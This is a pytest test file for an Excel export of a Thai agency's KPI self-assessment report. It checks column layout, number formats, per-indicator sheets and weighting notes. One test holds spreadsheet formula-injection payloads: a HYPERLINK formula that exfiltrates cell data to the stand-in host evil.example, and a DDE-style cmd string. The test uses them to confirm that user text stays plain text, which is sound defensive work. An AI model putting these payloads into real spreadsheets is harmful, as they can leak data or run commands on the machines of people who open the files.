"""The e-SAR-ready workbook: one row per KPI in OPDC's order with figures as numbers and the
text blocks, the total, and a sheet per KPI with the copy page's fields."""

from __future__ import annotations

import io
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from documents.registry import render_document
from documents.tests.sar_setup import (
    ACTIVITY,
    ACTIVITY_DETAIL,
    EVIDENCE_TITLE,
    FACTORS,
    FIRST_NAME,
    OBSTACLES,
    PENDING_NAME,
    SECOND_NAME,
    SUGGESTIONS,
    accepted_round,
)
from reporting.results import agency_round_total


@pytest.fixture(autouse=True)
def _media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"


@pytest.fixture
def workbook(org, owner, overseer, coordinator):
    sar_round = accepted_round(org, owner, overseer, coordinator)
    content = render_document("esar", sar_round.round, "xlsx", thai_digits=False).content
    return sar_round, load_workbook(io.BytesIO(content))


def _rows(sheet):
    header = [cell.value for cell in sheet[3]]
    rows = [
        dict(zip(header, (cell.value for cell in row), strict=True))
        for row in sheet.iter_rows(min_row=4)
    ]
    return header, rows


def test_summary_sheet_has_one_row_per_kpi_in_opdc_order_then_the_total(workbook):
    sar_round, book = workbook
    header, rows = _rows(book["e-SAR"])

    assert header[:6] == ["ลำดับ", "องค์ประกอบ", "ตัวชี้วัดที่", "ชื่อตัวชี้วัด", "หน่วยวัด", "น้ำหนัก (ร้อยละ)"]
    assert [row["ชื่อตัวชี้วัด"] for row in rows[:3]] == [FIRST_NAME, PENDING_NAME, SECOND_NAME]
    first = rows[0]
    assert first["น้ำหนัก (ร้อยละ)"] == 40
    assert first["ค่าเป้าหมาย มาตรฐาน (70 คะแนน)"] == 90
    assert first["ค่าผลการดำเนินงาน"] == 100 and first["คะแนนประเมินตนเอง"] == 100
    assert first["คะแนนถ่วงน้ำหนัก"] == 40
    assert first["ผลการดำเนินงาน"] == f"1. {ACTIVITY}\n{ACTIVITY_DETAIL}"
    assert (first["ปัจจัยสนับสนุน"], first["อุปสรรค"], first["ข้อเสนอแนะ"]) == (
        FACTORS,
        OBSTACLES,
        SUGGESTIONS,
    )
    assert first["เอกสาร/หลักฐานอ้างอิง"] == f"1. {EVIDENCE_TITLE}"
    pending = rows[1]
    assert pending["คะแนนประเมินตนเอง"] is None and pending["สถานะรายงาน"] == "ยังไม่ได้ตรวจรับ"
    total = rows[3]
    engine = agency_round_total(sar_round.round)
    assert total["องค์ประกอบ"] == "คะแนนรวม"
    assert Decimal(str(total["คะแนนถ่วงน้ำหนัก"])) == engine.shown_total == Decimal(61)
    assert total["ระดับที่ได้"] == "ระดับมาตรฐานขั้นต้น"


def test_numbers_are_numbers_with_a_display_format(workbook):
    _, book = workbook
    sheet = book["e-SAR"]
    score = sheet.cell(4, 12)

    assert isinstance(score.value, int | float) and score.number_format == "#,##0.00"


def test_each_kpi_has_a_sheet_with_the_copy_fields(workbook):
    _, book = workbook

    assert book.sheetnames == ["e-SAR", "ตัวชี้วัด 1", "ตัวชี้วัด 3", "ตัวชี้วัด 2"]
    fields = {row[0].value: row[1].value for row in book["ตัวชี้วัด 2"].iter_rows(min_row=4)}
    assert fields["ตัวชี้วัด"] == f"2 {SECOND_NAME}"
    assert fields["ค่าผลการดำเนินงาน"].startswith("90.00 ร้อยละ\na: ")
    assert fields["คะแนนประเมินตนเอง"] == "70.00"
    assert fields["ค่าเป้าหมาย/เกณฑ์การให้คะแนน"].splitlines()[1] == "มาตรฐาน: 90 ร้อยละ (70 คะแนน)"
    assert fields["อุปสรรค"] == OBSTACLES


HOSTILE = '=HYPERLINK("http://evil.example/?d="&A1,"คลิก")'


@pytest.mark.parametrize("text", [HOSTILE, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\tx"])
def test_user_text_that_looks_like_a_formula_stays_text(org, owner, overseer, coordinator, text):
    from reporting.models import Submission

    sar_round = accepted_round(org, owner, overseer, coordinator)
    Submission.objects.filter(kpi=sar_round.first).update(supporting_factors=text)
    content = render_document("esar", sar_round.round, "xlsx", thai_digits=False).content
    book = load_workbook(io.BytesIO(content))
    header, _kpi_rows = _rows(book["e-SAR"])
    column = header.index("ปัจจัยสนับสนุน") + 1
    cell = book["e-SAR"].cell(4, column)
    assert cell.data_type == "s" and cell.value == text
    copy = {row[0].value: row[1] for row in book["ตัวชี้วัด 1"].iter_rows(min_row=4)}
    assert copy["ปัจจัยสนับสนุน"].data_type == "s"
    assert copy["ปัจจัยสนับสนุน"].value == text


def test_summary_sheet_explains_a_kpi_not_evaluated_in_the_round(org, owner, overseer, coordinator):
    """Issue 17 item 3: the rule lines of the round (as in the SAR) under the total."""
    from indicators.models import Kpi, RoundExpectation

    sar_round = accepted_round(org, owner, overseer, coordinator)
    pending = Kpi.objects.get(framework=sar_round.round.framework, number="3")
    RoundExpectation.objects.update_or_create(
        kpi=pending,
        round=sar_round.round,
        defaults={"in_force": False, "reason": "เริ่มประเมินรอบ 12 เดือน"},
    )
    content = render_document("esar", sar_round.round, "xlsx", thai_digits=False).content
    sheet = load_workbook(io.BytesIO(content))["e-SAR"]

    column_a = [row[0].value for row in sheet.iter_rows(min_row=4)]
    total_at = column_a.index(None)  # the total row has no number
    notes = [str(v) for v in column_a[total_at + 1 :] if v]
    # KPI 1 takes KPI 3's weight within the component (40 + 30 = 70), and both say why.
    assert notes[0].startswith("ตัวชี้วัดที่ 1 ")
    assert "น้ำหนักในรอบนี้ 70 (ตามรายละเอียดตัวชี้วัด 40)" in notes[0]
    assert notes[1].startswith(f"ตัวชี้วัดที่ 3 {PENDING_NAME} ไม่ประเมินในรอบนี้ น้ำหนัก 30")
    assert "เหตุผล: เริ่มประเมินรอบ 12 เดือน" in notes[1]
    weights = [row[5].value for row in sheet.iter_rows(min_row=4)][:total_at]
    assert 70 in weights  # the row carries the round's weight too
